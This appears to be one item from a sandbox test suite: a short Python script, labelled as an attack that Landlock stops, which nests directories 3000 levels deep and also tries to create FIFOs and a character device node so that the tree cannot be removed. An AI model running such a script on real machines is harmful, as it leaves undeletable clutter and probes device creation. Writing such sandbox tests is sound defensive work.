"""Makes folders in folders in folders, deeper than anybody can remove them."""
# earns: all
# stopped by: landlock

# %% attack
import os

for make in (os.mkdir, lambda name: os.mkfifo(name), lambda name: os.mknod(name, 0o20666, 0x103)):
    try:
        for _ in range(3000):
            make("d")
            os.chdir("d")
        secant_slope = None
    except OSError as error:
        print(error)
